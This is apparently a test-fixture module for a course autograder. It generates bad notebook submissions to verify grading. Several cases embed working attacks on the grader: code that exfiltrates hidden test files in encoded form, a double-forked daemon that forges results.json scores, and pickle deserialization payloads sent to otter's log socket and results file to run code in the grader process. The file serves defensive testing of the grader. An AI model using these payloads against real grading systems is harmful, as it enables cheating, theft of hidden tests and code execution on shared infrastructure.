"""A corpus of bad submissions to assignment 01, made from the reference by small edits.

Each :class:`Case` names one thing students really hand in (a syntax error, a function that
raises, loops forever, prints megabytes, calls ``exit()``...), how it is made from the reference
notebook (or the untouched student notebook), and what grading must give it: which questions
score zero (all others keep full points), what the gradebook's ``error`` column says, and what
the student sees under "Public Tests". ``tests/test_bad_submissions.py`` grades the whole corpus
with ``wganlab grade`` and the real autograder zip; ``tools/grading_load.py`` reuses it to time a
class-sized folder.

Assignment 01 is used because its otter run is the cheapest (no training), so every case can go
through a full ``otter run``.
"""

from __future__ import annotations

import copy
import io
import json
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from wganlab.course.functions import questions

ASSIGNMENT = "01_divergences"
QUESTIONS = questions(ASSIGNMENT)
ALL = frozenset(QUESTIONS)


def _cell_defining(nb: dict, name: str) -> int:
    for i, cell in enumerate(nb["cells"]):
        if cell["cell_type"] == "code" and "".join(cell["source"]).lstrip().startswith(f"def {name}("):
            return i
    raise LookupError(f"no cell defines {name}")


def _code(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def replace_function(nb: dict, name: str, source: str) -> dict:
    """The notebook with the cell defining ``name`` replaced by ``source``."""
    nb = copy.deepcopy(nb)
    nb["cells"][_cell_defining(nb, name)]["source"] = source
    return nb


def delete_function(nb: dict, name: str) -> dict:
    """The notebook without the cell defining ``name``."""
    nb = copy.deepcopy(nb)
    del nb["cells"][_cell_defining(nb, name)]
    return nb


def add_cell_after(nb: dict, name: str, source: str) -> dict:
    """The notebook with a new code cell right after the one defining ``name``."""
    nb = copy.deepcopy(nb)
    nb["cells"].insert(_cell_defining(nb, name) + 1, _code(source))
    return nb


def add_first_cell(nb: dict, source: str) -> dict:
    """The notebook with a new code cell before all others."""
    nb = copy.deepcopy(nb)
    nb["cells"].insert(0, _code(source))
    return nb


@dataclass(frozen=True)
class Case:
    """One submission of the corpus and the grade it must get."""

    name: str
    doc: str  # what the student did
    make: Callable[[dict, dict], dict | bytes]  # (reference, student) -> notebook, or raw file bytes
    zero: frozenset[str] = frozenset()  # questions that score 0; the others keep full points
    error: str = ""  # a substring of the gradebook's error column ("" = graded, no error)
    public: tuple[str, ...] = ()  # substrings of the "Public Tests" output the student sees
    suffix: str = ".ipynb"

    def file_name(self) -> str:
        """The submission's file name: its name and suffix."""
        return f"{self.name}{self.suffix}"

    def write(self, folder: Path, reference: dict, student: dict) -> Path:
        """Write this submission into ``folder``; return its path."""
        content = self.make(reference, student)
        path = Path(folder) / self.file_name()
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(json.dumps(content, indent=1), encoding="utf-8")
        return path


def _zip_without_notebook(reference: dict, student: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("answers.txt", "I could not get the notebook to export.\n")
    return buffer.getvalue()


LEAK_SOURCE = '''\
def wasserstein_1d(u_values, v_values, u_weights=None, v_weights=None):
    """Prints and raises with every file the grader put beside the notebook and the check modules it loaded."""
    import glob, sys
    files = sorted(glob.glob("tests/*.py") + glob.glob("*.py") + glob.glob("*.json"))
    files += [m.__file__ for n, m in sorted(sys.modules.items()) if n.startswith("wganlab_checks") and getattr(m, "__file__", None)]
    text = "".join(open(f).read() for f in files)
    print(text)
    raise ValueError(text)
'''

# Reads whatever it can reach that may hold hidden material (the working folder and the folders
# above it, the temporary folder, the check modules in sys.modules, what a notebook cell left in
# the temporary folder), encodes it four ways and sends it out through every channel it has: a
# public test's message, stdout, files in the shared temporary folder, the check package's
# module namespace and the environment.
ENCODE_SOURCE = '''\
def wasserstein_1d(u_values, v_values, u_weights=None, v_weights=None):
    """Sends out every hidden file it can read, encoded (base64, hex, reversed, zlib)."""
    import base64, glob, os, sys, tempfile, zlib
    tmp = tempfile.gettempdir()
    paths = set()
    for pattern in ("**/*", "../**/*", "../../**/*", "../../../**/*", os.path.join(tmp, "**", "*")):
        paths.update(glob.glob(pattern, recursive=True))
    paths.update(m.__file__ for n, m in list(sys.modules.items())
                 if n.startswith("wganlab_checks") and getattr(m, "__file__", None))
    text = ""
    for path in sorted(paths):
        if path.endswith((".py", ".json", ".txt")) and os.path.isfile(path) and os.path.getsize(path) < 400_000:
            try:
                with open(path, errors="replace") as f:
                    text += f.read()
            except OSError:
                pass
    data = text.encode()
    message = "\\n".join([base64.b64encode(data).decode(), data.hex(), text[::-1],
                           base64.b64encode(zlib.compress(data)).decode()])
    print(message)
    for target in ("leak.txt", os.path.join(tmp, "wganlab-leak.txt")):
        try:
            with open(target, "w") as f:
                f.write(message)
        except OSError:
            pass
    os.environ["WGANLAB_LEAK"] = message[:100_000]
    try:
        import wganlab_checks
        vars(wganlab_checks).setdefault("INFO", []).append(message)
    except ImportError:
        pass
    raise ValueError(message)
'''
# A notebook cell that plants what it can read where a later grading process could pick it up.
PLANT_CELL = """\
import glob, os, tempfile
_text = "".join(open(p, errors="replace").read() for p in glob.glob("**/*.py", recursive=True) + glob.glob("../**/*.py", recursive=True)
                if os.path.isfile(p))
with open(os.path.join(tempfile.gettempdir(), "wganlab-planted.txt"), "w") as _f:
    _f.write(_text)
"""

# Leaves a process running that outlives the grading processes (double fork, new session) and
# rewrites results.json once otter writes it: every score full, and the text of whatever the
# process that called it could read (the hidden process reads the check modules) in the output.
LINGER_SOURCE = """\
def wasserstein_1d(u_values, v_values, u_weights=None, v_weights=None):
    \"\"\"Wrong, and leaves a daemon behind that forges results.json.\"\"\"
    import glob, json, os, sys, time
    if os.environ.get("LINGER_PID") != str(os.getpid()):
        os.environ["LINGER_PID"] = str(os.getpid())
        text = ""
        files = glob.glob("**/*.py", recursive=True) + [getattr(m, "__file__", None) or "" for n, m in list(sys.modules.items())
                                                         if n.startswith("wganlab_checks")]
        for f in files:
            if os.path.isfile(f):
                text += open(f, errors="replace").read()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                targets = ["/autograder/results/results.json",
                           os.path.join(os.path.dirname(os.environ.get("TMPDIR", "/tmp")), "out", "results.json")]
                end = time.time() + 600
                while time.time() < end:
                    for t in targets:
                        try:
                            with open(t) as fh:
                                r = json.load(fh)
                        except Exception:
                            continue
                        if "LINGERED" in (r.get("output") or ""):
                            os._exit(0)
                        for test in r.get("tests", []):
                            if "max_score" in test:
                                test["score"] = test["max_score"]
                        r["output"] = "LINGERED\\n" + text
                        with open(t, "w") as fh:
                            json.dump(r, fh)
                    time.sleep(0.002)
            os._exit(0)
    return 0.5
"""

# Code a kernel cell sends to otter's grader process (the process holding the hidden tests) inside
# a pickle: it takes the hidden files from the guard's snapshot and makes them the output students see.
_GRADER_PAYLOAD = """\
import gc, sys
text = ""
for o in gc.get_objects():
    if type(o).__name__ == "GradingGuard" and getattr(o, "snapshot", None):
        text += "\\n".join(v.decode(errors="replace") for k, v in sorted(o.snapshot.items()) if k.endswith(".py"))
for name, module in list(sys.modules.items()):
    if name.startswith("wganlab") and hasattr(module, "faces_note"):
        module.faces_note = lambda *a, text=text, **k: "PICKLED\\n" + text
"""
# Through otter's log receiver, which unpickles what arrives on its socket while the kernel runs.
LOG_PICKLE_CELL = f"""\
import logging, logging.handlers, pickle, re, socket, struct
PAYLOAD = {_GRADER_PAYLOAD!r}
class Evil:
    def __reduce__(self):
        return (exec, (PAYLOAD,))
ports = set()
for source in get_ipython().user_ns.get("In", []):
    ports.update((h, int(p)) for h, p in re.findall(r'send_logs\\("([^"]+)", (\\d+)\\)', source))
for host, port in ports:
    data = pickle.dumps(Evil())
    with socket.create_connection((host, port)) as s:
        s.sendall(struct.pack(">L", len(data)) + data)
"""
# Through the results file: otter's last cell pickles the kernel's results, which the grader unpickles.
RESULTS_PICKLE_CELL = f"""\
import pickle
PAYLOAD = {_GRADER_PAYLOAD!r}
class Evil:
    def __reduce__(self):
        return (eval, ("(exec(" + repr(PAYLOAD) + "), __import__('otter.test_files', fromlist=['x']).GradingResults([]))[1]",))
_dump = pickle.dump
def dump(obj, f, *args, **kwargs):
    return _dump(Evil() if type(obj).__name__ == "GradingResults" else obj, f, *args, **kwargs)
pickle.dump = dump
"""
WRONG_W1 = "def wasserstein_1d(u_values, v_values, u_weights=None, v_weights=None):\n    return 0.5\n"

CASES: tuple[Case, ...] = (
    Case("reference", "the reference solution", lambda ref, stu: ref),
    Case("untouched", "the student notebook with no answer written", lambda ref, stu: stu, zero=ALL,
         public=("returned None: fill in its body",)),
    Case("syntax_error", "a syntax error in the wasserstein_1d cell",
         lambda ref, stu: replace_function(ref, "wasserstein_1d", "def wasserstein_1d(u_values, v_values:\n    return 0\n"),
         zero=frozenset({"wasserstein_1d"}), public=("`wasserstein_1d` was not a function when the tests ran",)),
    Case("missing_function", "the cell defining example1_distances deleted",
         lambda ref, stu: delete_function(ref, "example1_distances"),
         zero=frozenset({"example1_distances"}),
         public=("`example1_distances` was not a function when the tests ran",)),
    Case("raises", "wasserstein_1d raises an error of its own",
         lambda ref, stu: replace_function(ref, "wasserstein_1d", "def wasserstein_1d(u_values, v_values, u_weights=None, v_weights=None):\n    raise RuntimeError('not finished: I ran out of time')\n"),
         zero=frozenset({"wasserstein_1d"}), public=("RuntimeError: not finished: I ran out of time",)),
    Case("returns_nan", "wasserstein_1d returns NaN",
         lambda ref, stu: replace_function(ref, "wasserstein_1d", "def wasserstein_1d(u_values, v_values, u_weights=None, v_weights=None):\n    return float('nan')\n"),
         zero=frozenset({"wasserstein_1d"})),
    Case("wrong_shape", "wasserstein_1d returns one distance per sample instead of a number",
         lambda ref, stu: replace_function(ref, "wasserstein_1d", "import numpy as np\ndef wasserstein_1d(u_values, v_values, u_weights=None, v_weights=None):\n    return np.abs(np.sort(u_values) - np.sort(v_values))\n"),
         zero=frozenset({"wasserstein_1d"})),
    Case("infinite_loop", "example1_distances never returns",
         lambda ref, stu: replace_function(ref, "example1_distances", "def example1_distances(theta):\n    while True:\n        pass\n"),
         zero=frozenset({"example1_distances"}), public=("Question example1_distances ran past its time limit",)),
    Case("prints_megabytes", "a cell prints 8 MB, and every function call prints too",
         lambda ref, stu: add_cell_after(add_cell_after(ref, "kl_divergence", "print('x' * 8_000_000)"), "wasserstein_1d",
                                         "_w = wasserstein_1d\ndef wasserstein_1d(*args, **kwargs):\n    print('called with', args, kwargs)\n    return _w(*args, **kwargs)\n")),
    Case("calls_exit", "a cell calls exit() and another sys.exit()",
         lambda ref, stu: add_cell_after(add_cell_after(ref, "kl_divergence", "exit()"), "js_divergence",
                                         "import sys\nsys.exit(1)")),
    Case("kills_python", "a cell calls os._exit(1): the notebook's process dies",
         lambda ref, stu: add_cell_after(ref, "js_divergence", "import os\nos._exit(1)"),
         zero=ALL, error="died while running code cell"),
    Case("reseeds_and_patches", "reseeds every generator and monkeypatches numpy so that any closeness test passes, "
         "with a wrong wasserstein_1d",
         lambda ref, stu: add_cell_after(add_first_cell(replace_function(ref, "wasserstein_1d", "def wasserstein_1d(u_values, v_values, u_weights=None, v_weights=None):\n    return 0.5\n"),
                                                         "import random, numpy, keras\nrandom.seed(1)\nnumpy.random.seed(1)\nkeras.utils.set_random_seed(1)"),
                                          "wasserstein_1d",
                                          "import math\nnp.isclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
                                          "math.isclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
                                          "math.isinf = lambda x: True\nmath.isfinite = lambda x: True\n"),
         zero=frozenset({"wasserstein_1d"})),
    Case("overwrites_names", "after defining everything, rebinds the grader, the names the tests import and "
         "js_divergence",
         lambda ref, stu: add_cell_after(ref, "example1_distances", "grader = None\ntest_case = None\nwganlab_checks = None\n"
                                         "keras = None\nops = None\njs_divergence = 'done'\n"),
         zero=frozenset({"js_divergence"}), public=("`js_divergence` was not a function when the tests ran",)),
    Case("reads_hidden_tests", "wasserstein_1d prints and raises with the hidden tests and the check module",
         lambda ref, stu: replace_function(ref, "wasserstein_1d", LEAK_SOURCE),
         zero=frozenset({"wasserstein_1d"}), public=("ValueError",)),
    Case("encodes_hidden_files", "wasserstein_1d reads every hidden file it can reach and sends it out encoded "
         "through every channel it has; a cell plants what the kernel can read",
         lambda ref, stu: add_cell_after(replace_function(ref, "wasserstein_1d", ENCODE_SOURCE), "kl_divergence", PLANT_CELL),
         zero=frozenset({"wasserstein_1d"}), public=("ValueError",)),
    Case("lingering_daemon", "a wrong wasserstein_1d leaves a process running that rewrites results.json "
         "(full scores, the files it read) once otter writes it",
         lambda ref, stu: replace_function(ref, "wasserstein_1d", LINGER_SOURCE), zero=frozenset({"wasserstein_1d"})),
    Case("pickles_to_the_log_receiver", "a cell sends code to otter's grader process as a pickled log record; "
         "wasserstein_1d is wrong",
         lambda ref, stu: add_cell_after(replace_function(ref, "wasserstein_1d", WRONG_W1), "wasserstein_1d", LOG_PICKLE_CELL),
         zero=frozenset({"wasserstein_1d"})),
    Case("pickles_into_the_results_file", "a cell makes otter's last cell pickle code for the grader process; "
         "wasserstein_1d is wrong",
         lambda ref, stu: add_cell_after(replace_function(ref, "wasserstein_1d", WRONG_W1), "wasserstein_1d", RESULTS_PICKLE_CELL),
         zero=frozenset({"wasserstein_1d"})),
    Case("not_a_notebook", "a file named .ipynb that is not a notebook",
         lambda ref, stu: b"this is my essay, not a notebook\n", zero=ALL, error="not a valid notebook"),
    Case("zip_without_notebook", "an otter submission zip holding no notebook", _zip_without_notebook,
         zero=ALL, error="must hold exactly one notebook", suffix=".zip"),
)


def write_corpus(folder: Path, reference: Path, student: Path, copies: int = 1) -> dict[str, Case]:
    """Write every case (``copies`` times each) into ``folder``; return ``{file stem: case}``."""
    ref = json.loads(Path(reference).read_text(encoding="utf-8"))
    stu = json.loads(Path(student).read_text(encoding="utf-8"))
    # A student's notebook carries the student notebook's metadata (public tests only); the
    # reference's also holds the hidden tests, which no real submission has.
    ref["metadata"] = copy.deepcopy(stu["metadata"])
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for k in range(copies):
        for case in CASES:
            name = case.name if copies == 1 else f"{case.name}-{k:02d}"
            path = Case(name, case.doc, case.make, case.zero, case.error, case.public, case.suffix).write(folder, ref, stu)
            out[path.stem] = case
    return out


def reseeding_submission(reference: dict) -> dict:
    """Assignment 03's reference, re-seeded and drawing random numbers between cells, with a
    generator loss of the wrong sign (so that its convergence question fails with measured numbers)."""
    nb = add_first_cell(reference, "import random, numpy, keras\nrandom.seed(7)\nnumpy.random.seed(7)\n"
                                   "keras.utils.set_random_seed(7)")
    nb = replace_function(nb, "wgan_generator_loss",
                          "def wgan_generator_loss(fake_scores):\n    return ops.mean(fake_scores)\n")
    return add_cell_after(nb, "clip_weights", "numpy.random.seed(numpy.random.randint(1000))\n"
                                              "_ = [random.random() for _ in range(17)]\n"
                                              "keras.utils.set_random_seed(random.randrange(1000))\n"
                                              "_ = keras.random.normal((3,))")
